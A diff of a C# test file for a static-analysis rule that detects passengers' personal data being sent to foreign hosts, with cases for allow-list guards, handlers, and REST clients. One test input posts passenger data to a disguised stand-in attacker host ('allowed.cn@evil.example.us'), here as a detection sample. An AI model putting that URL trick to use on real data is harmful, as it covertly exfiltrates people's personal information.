@@ -15,7 +15,7 @@ public sealed class PersonalDataSentAbroadTests() : RuleTests("CSL3001")
     private static string Code(string statements) => Model + $$"""
         public class Service(HttpClient http, IHttpClientFactory factory, string tenant)
         {
-            private const string Base = "https://api.openai.com/v1";
+            private const string Base = "https://api.stripe.com/v1";
             private static readonly string s_mainland = "https://dashscope.aliyuncs.com";
 
             public async Task Run(Passenger passenger)
@@ -26,18 +26,18 @@ public sealed class PersonalDataSentAbroadTests() : RuleTests("CSL3001")
         """;
 
     [Theory]
-    [InlineData("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", [|passenger|]);""")]
-    [InlineData("""await http.PostAsJsonAsync(new Uri("https://api.openai.com/v1/x"), [|passenger|]);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://api.stripe.com/v1/x", [|passenger|]);""")]
+    [InlineData("""await http.PostAsJsonAsync(new Uri("https://api.stripe.com/v1/x"), [|passenger|]);""")]
     [InlineData("""await http.PostAsJsonAsync(Base + "/x", [|passenger|]);""")]
     [InlineData("""await http.PostAsJsonAsync($"{Base}/x", [|passenger|]);""")]
     [InlineData("""await http.PostAsJsonAsync("https://hooks.example.de/x", new { phone = [|passenger.Mobile|] });""")]
-    [InlineData("""await http.PostAsync("https://api.openai.com/v1/x", new StringContent([|passenger.Mobile|]));""")]
-    [InlineData("""await http.PostAsync("https://api.openai.com/v1/x", new StringContent(System.Text.Json.JsonSerializer.Serialize([|passenger|])));""")]
-    [InlineData("""await http.PostAsync("https://api.openai.com/v1/x", JsonContent.Create([|passenger|]));""")]
-    [InlineData("""await http.GetAsync("https://api.openai.com/v1/x?phone=" + [|passenger.Mobile|]);""")]
-    [InlineData("""var client = new HttpClient { BaseAddress = new Uri("https://api.openai.com") }; await client.PostAsJsonAsync("x", [|passenger|]);""")]
-    [InlineData("""var client = new HttpClient(); client.BaseAddress = new Uri("https://api.openai.com"); await client.PostAsJsonAsync("x", [|passenger|]);""")]
-    [InlineData("""var request = new HttpRequestMessage(HttpMethod.Post, "https://api.openai.com/x") { Content = new StringContent(passenger.Mobile) }; await http.SendAsync([|request|]);""")]
+    [InlineData("""await http.PostAsync("https://api.stripe.com/v1/x", new StringContent([|passenger.Mobile|]));""")]
+    [InlineData("""await http.PostAsync("https://api.stripe.com/v1/x", new StringContent(System.Text.Json.JsonSerializer.Serialize([|passenger|])));""")]
+    [InlineData("""await http.PostAsync("https://api.stripe.com/v1/x", JsonContent.Create([|passenger|]));""")]
+    [InlineData("""await http.GetAsync("https://api.stripe.com/v1/x?phone=" + [|passenger.Mobile|]);""")]
+    [InlineData("""var client = new HttpClient { BaseAddress = new Uri("https://api.stripe.com") }; await client.PostAsJsonAsync("x", [|passenger|]);""")]
+    [InlineData("""var client = new HttpClient(); client.BaseAddress = new Uri("https://api.stripe.com"); await client.PostAsJsonAsync("x", [|passenger|]);""")]
+    [InlineData("""var request = new HttpRequestMessage(HttpMethod.Post, "https://api.stripe.com/x") { Content = new StringContent(passenger.Mobile) }; await http.SendAsync([|request|]);""")]
     [InlineData("""await http.PostAsJsonAsync("https://allowed.cn@evil.example.us/x", [|passenger|]);""")]
     public Task Reports_what_goes_abroad(string statement) => Rule.ReportsAsync(Code(statement));
 
@@ -51,16 +51,16 @@ public sealed class PersonalDataSentAbroadTests() : RuleTests("CSL3001")
     [InlineData("""await http.PostAsJsonAsync("https://partner.example.com/x", passenger);""")]
     [InlineData("""await http.PostAsJsonAsync("https://" + tenant, passenger);""")]
     [InlineData("""await http.PostAsJsonAsync("relative", passenger);""")]
-    [InlineData("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", new { passenger.Id });""")]
-    [InlineData("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", passenger.RealName.Length);""")]
+    [InlineData("""await http.PostAsJsonAsync("https://api.stripe.com/v1/x", new { passenger.Id });""")]
+    [InlineData("""await http.PostAsJsonAsync("https://api.stripe.com/v1/x", passenger.RealName.Length);""")]
     public Task Is_silent_for_other_places_and_other_data(string statement) => Rule.SilentAsync(Code(statement));
 
     [Theory]
-    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://api.openai.com/"));""", true)]
-    [InlineData("""services.AddHttpClient<Translator>().ConfigureHttpClient(c => { c.Timeout = TimeSpan.FromSeconds(3); c.BaseAddress = new Uri("https://api.openai.com/"); });""", true)]
+    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://api.stripe.com/"));""", true)]
+    [InlineData("""services.AddHttpClient<Translator>().ConfigureHttpClient(c => { c.Timeout = TimeSpan.FromSeconds(3); c.BaseAddress = new Uri("https://api.stripe.com/"); });""", true)]
     [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://dashscope.aliyuncs.com/"));""", false)]
-    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://api.openai.com/")).AddHttpMessageHandler<CsLaw.Guards.CrossBorderTransferHandler>();""", false)]
-    [InlineData("""services.AddHttpClient<Other>(c => c.BaseAddress = new Uri("https://api.openai.com/"));""", false)]
+    [InlineData("""services.AddHttpClient<Translator>(c => c.BaseAddress = new Uri("https://api.stripe.com/")).AddHttpMessageHandler<CsLaw.Guards.CrossBorderTransferHandler>();""", false)]
+    [InlineData("""services.AddHttpClient<Other>(c => c.BaseAddress = new Uri("https://api.stripe.com/"));""", false)]
     public Task A_typed_client_goes_where_it_is_registered_to(string registration, bool reported) => Rule.ReportsAsync(
         Model + $$"""
         public class Other { }
@@ -90,7 +90,7 @@ public sealed class PersonalDataSentAbroadTests() : RuleTests("CSL3001")
         {
             public static void Add(IServiceCollection services)
             {
-                services.AddHttpClient("translate", c => c.BaseAddress = new Uri("https://api.openai.com/"));
+                services.AddHttpClient("translate", c => c.BaseAddress = new Uri("https://api.stripe.com/"));
                 services.AddHttpClient("other", c => c.BaseAddress = new Uri("https://dashscope.aliyuncs.com/"));
             }
         }
@@ -103,39 +103,123 @@ public sealed class PersonalDataSentAbroadTests() : RuleTests("CSL3001")
         {
             public async Task Guarded(Passenger passenger)
             {
-                if (!exports.TransferAllowed("api.openai.com")) throw new InvalidOperationException();
-                await http.PostAsJsonAsync("https://api.openai.com/x", passenger);
+                if (!exports.TransferAllowed("api.stripe.com")) throw new InvalidOperationException();
+                await http.PostAsJsonAsync("https://api.stripe.com/x", passenger);
             }
 
             public async Task Ignored(Passenger passenger)
             {
-                exports.TransferAllowed("api.openai.com");
-                await http.PostAsJsonAsync("https://api.openai.com/x", [|passenger|]);
+                exports.TransferAllowed("api.stripe.com");
+                await http.PostAsJsonAsync("https://api.stripe.com/x", [|passenger|]);
             }
         }
+        """);
+
+    [Theory]
+    [InlineData("if (!s_allowed.Contains(uri.Host)) throw new InvalidOperationException();", false)]
+    [InlineData("var host = uri.Host; if (!s_allowed.Contains(host)) return;", false)]
+    [InlineData("if (uri.Host != \"api.stripe.com\") return;", false)]
+    [InlineData("if (!s_allowed.Any(allowed => uri.Host.EndsWith(allowed))) return;", false)]
+    [InlineData("if (s_allowed.Contains(uri.Host)) return;", true)]
+    [InlineData("if (!s_allowed.Contains(uri.Host)) Console.WriteLine(uri.Host);", true)]
+    [InlineData("if (!s_allowed.Contains(uri.Scheme)) return;", true)]
+    public Task A_list_of_hosts_that_is_asked_before_is_a_guard(string check, bool reported) => Rule.ReportsAsync(Model + $$"""
+        public class Service(HttpClient http)
+        {
+            private static readonly HashSet<string> s_allowed = new();
+            public async Task Send(Passenger passenger)
+            {
+                var uri = new Uri("https://api.stripe.com/x");
+                {{check}}
+                await http.PostAsJsonAsync(uri, {{(reported ? "[|passenger|]" : "passenger")}});
+            }
+        }
+        """);
+
+    [Theory]
+    [InlineData("if (!_allowed.Contains(request.RequestUri!.Host)) throw new InvalidOperationException();", false)]
+    [InlineData("var host = request.RequestUri!.IdnHost; if (!_allowed.Contains(host)) return Task.FromResult(new HttpResponseMessage(System.Net.HttpStatusCode.Forbidden));", false)]
+    [InlineData("if (_allowed.Contains(request.RequestUri!.Host)) return base.SendAsync(request, cancellation);", true)]
+    [InlineData("if (request.Content is null) throw new InvalidOperationException();", true)]
+    [InlineData("Console.WriteLine(request.RequestUri!.Host);", true)]
+    public Task A_handler_that_refuses_hosts_is_a_filter(string check, bool reported) => Rule.ReportsAsync(Model + $$"""
+        public class Gate : DelegatingHandler
+        {
+            private readonly HashSet<string> _allowed = new();
+            protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken cancellation)
+            {
+                {{check}}
+                return base.SendAsync(request, cancellation);
+            }
+        }
+        public class Payments(HttpClient http) { public Task Send(Passenger passenger) => http.PostAsJsonAsync("x", {{(reported ? "[|passenger|]" : "passenger")}}); }
+        public static class Startup { public static void Add(IServiceCollection services) => services.AddHttpClient<Payments>(c => c.BaseAddress = new Uri("https://api.stripe.com/")).AddHttpMessageHandler<Gate>(); }
         """);
 
     [Fact]
     public async Task A_masked_payload_is_a_suggestion()
     {
         Diagnostic finding = Assert.Single(await Rule.ReportsAsync(
-            Code("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", CsLaw.Guards.Redact.Phone([|passenger.Mobile|]));"""), WithGuards));
+            Code("""await http.PostAsJsonAsync("https://api.stripe.com/v1/x", CsLaw.Guards.Redact.Phone([|passenger.Mobile|]));"""), WithGuards));
         Assert.Equal(DiagnosticSeverity.Info, finding.Severity);
     }
 
     [Fact]
     public Task A_project_teaches_its_own_hosts() => Rule.ReportsAsync(
-        Code("""await http.PostAsJsonAsync("https://gw.partner.com/x", [|passenger|]); await http.PostAsJsonAsync("https://api.openai.com/x", passenger);"""),
-        code => code with { AdditionalFiles = [("/repo/CsLaw.Team.txt", "host *.partner.com outside\nhost api.openai.com own # our gateway takes the name over")] });
+        Code("""await http.PostAsJsonAsync("https://gw.partner.com/x", [|passenger|]); await http.PostAsJsonAsync("https://api.stripe.com/x", passenger);"""),
+        code => code with { AdditionalFiles = [("/repo/CsLaw.Team.txt", "host *.partner.com outside\nhost api.stripe.com own # our gateway takes the name over")] });
 
     [Fact]
     public async Task Says_when_sensitive_data_goes()
     {
-        Diagnostic finding = Assert.Single(await Rule.ReportsAsync(Code("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", [|passenger.IdCardNo|]);""")));
+        Diagnostic finding = Assert.Single(await Rule.ReportsAsync(Code("""await http.PostAsJsonAsync("https://api.stripe.com/v1/x", [|passenger.IdCardNo|]);""")));
         Assert.Contains("sensitive personal information, where one person is enough", finding.GetMessage(CultureInfo.InvariantCulture), System.StringComparison.Ordinal);
-        Assert.Equal("api.openai.com", finding.Properties["cslaw.host"]);
+        Assert.Equal("api.stripe.com", finding.Properties["cslaw.host"]);
+    }
+
+    [Theory]
+    [InlineData("[CsLaw.Guards.CrossBorderTransfer(CsLaw.Guards.TransferRoute.StandardContract, reference: \"SCC-2026-1\")]", false)]
+    [InlineData("[CsLaw.Guards.CrossBorderTransfer(CsLaw.Guards.TransferRoute.StandardContract, reference: \"SCC-2026-1\", Host = \"api.stripe.com\")]", false)]
+    [InlineData("[CsLaw.Guards.CrossBorderTransfer(CsLaw.Guards.TransferRoute.StandardContract, reference: \"SCC-2026-1\", Host = \"other.example.com\")]", true)]
+    [InlineData("[CsLaw.Guards.CrossBorderTransfer(CsLaw.Guards.TransferRoute.StandardContract, reference: \" \")]", true)]
+    [InlineData("[CsLaw.Guards.CrossBorderTransfer(CsLaw.Guards.TransferRoute.StandardContract)]", true)]
+    public async Task A_declared_route_needs_its_reference(string declaration, bool reported)
+    {
+        string source = Model + $$"""
+            {{declaration}}
+            public class PaymentClient(HttpClient http)
+            {
+                public Task Send(Passenger passenger) => http.PostAsJsonAsync("https://api.stripe.com/v1/x", {{(reported ? "[|passenger|]" : "passenger")}});
+            }
+            """;
+        foreach (Diagnostic finding in await Rule.ReportsAsync(source, WithGuards))
+            Assert.Equal(!declaration.Contains("other", System.StringComparison.Ordinal), finding.GetMessage(CultureInfo.InvariantCulture).Contains("its reference is empty", System.StringComparison.Ordinal));
     }
 
     [Fact]
-    public Task Has_no_fix() => Rule.OffersNoFixAsync(Code("""await http.PostAsJsonAsync("https://api.openai.com/v1/x", [|passenger|]);"""), WithGuards);
+    public Task An_address_of_the_settings_counts() => Rule.ReportsAsync(
+        Code("""await http.PostAsJsonAsync(configuration["Crm:Url"] + "/x", [|passenger|]); await http.PostAsJsonAsync(configuration["Erp:Url"] + "/x", passenger);""")
+            .Replace("string tenant)", "string tenant, IConfiguration configuration)", System.StringComparison.Ordinal),
+        code => code with { AdditionalFiles = [("/app/appsettings.json", """{ "Crm": { "Url": "https://crm.example.de" }, "Erp": { "Url": "https://erp.example.cn" } }""")] });
+
+    [Theory]
+    [InlineData("""await Flurl.Http.GeneratedExtensions.PostJsonAsync("https://api.stripe.com/x", [|passenger|]);""")]
+    [InlineData("""await Flurl.Http.GeneratedExtensions.PostJsonAsync(Flurl.Http.GeneratedExtensions.WithHeader("https://api.stripe.com/x", "a", "b"), [|passenger|]);""")]
+    [InlineData("""await Flurl.Http.GeneratedExtensions.PostJsonAsync("https://erp.example.cn/x", passenger);""")]
+    public Task A_fluent_request_goes_to_the_address_it_begins_with(string statement) =>
+        Rule.ReportsAsync([("Test.cs", Code(statement)), ("Sdks.cs", Program.Destinations.SdkStubs.Source)]);
+
+    [Theory]
+    [InlineData("new RestSharp.RestClient(\"https://api.stripe.com\")", true)]
+    [InlineData("new RestSharp.RestClient(new RestSharp.RestClientOptions(\"https://api.stripe.com\"))", true)]
+    [InlineData("new RestSharp.RestClient(new RestSharp.RestClientOptions { BaseUrl = new Uri(\"https://api.stripe.com\") })", true)]
+    [InlineData("new RestSharp.RestClient(\"https://erp.example.cn\")", false)]
+    public Task A_rest_client_goes_where_it_is_made_for(string client, bool reported) => Rule.ReportsAsync(
+    [
+        ("Test.cs", "using RestSharp;\n" + Code($"var client = {client}; var request = new RestRequest(\"x\"); request.AddJsonBody(passenger); await client.PostAsync({(reported ? "[|request|]" : "request")});")),
+        ("Sdks.cs", Program.Destinations.SdkStubs.Source),
+    ]);
+
+    [Fact]
+    public Task Has_no_fix() => Rule.OffersNoFixAsync(Code("""await http.PostAsJsonAsync("https://api.stripe.com/v1/x", [|passenger|]);"""), WithGuards);
 }
